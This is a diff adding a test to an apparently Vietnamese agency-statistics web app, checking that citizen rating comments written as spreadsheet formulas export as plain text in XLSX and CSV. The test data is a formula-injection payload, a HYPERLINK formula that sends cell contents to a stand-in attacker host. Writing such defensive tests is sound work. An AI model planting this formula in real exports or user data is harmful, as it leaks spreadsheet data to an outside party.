@@ -262,6 +262,23 @@ def test_a_leader_reads_the_rating_comments_without_who_wrote_them(client, appro
     assert dossier.code not in page and "Lê Văn Góp Ý" not in page and "20/03/2025" not in comments
 
 
+def test_a_comment_written_as_a_formula_is_exported_as_text(client, approver, agency_with_dossiers):
+    procedure, _ = agency_with_dossiers
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'
+    rated(dossier_row(procedure, received=at(3, 3), finished=at(3, 6), status="returned"), formula)
+    client.force_login(approver)
+    query = {"period": "month", "year": "2025", "month": "3", "table": "comments"}
+
+    xlsx = client.get("/thong-ke/co-quan/", {**query, "export": "xlsx"})
+    csv_file = client.get("/thong-ke/co-quan/", {**query, "export": "csv"})
+
+    cells = [cell for row in load_workbook(io.BytesIO(xlsx.content)).active.iter_rows() for cell in row]
+    comment = next(cell for cell in cells if cell.value == formula)
+    assert comment.data_type == "s"  # a string cell, not a formula the spreadsheet would run
+    csv_cells = [cell for row in csv.reader(io.StringIO(csv_file.content.decode("utf-8-sig"))) for cell in row]
+    assert "'" + formula in csv_cells and formula not in csv_cells
+
+
 def test_officers_and_other_agencies_do_not_read_the_rating_comments(client, agency, agency_with_dossiers):
     procedure, _ = agency_with_dossiers
     rated(dossier_row(procedure, received=at(3, 3), finished=at(3, 6), status="returned"), "Chờ lâu quá.")
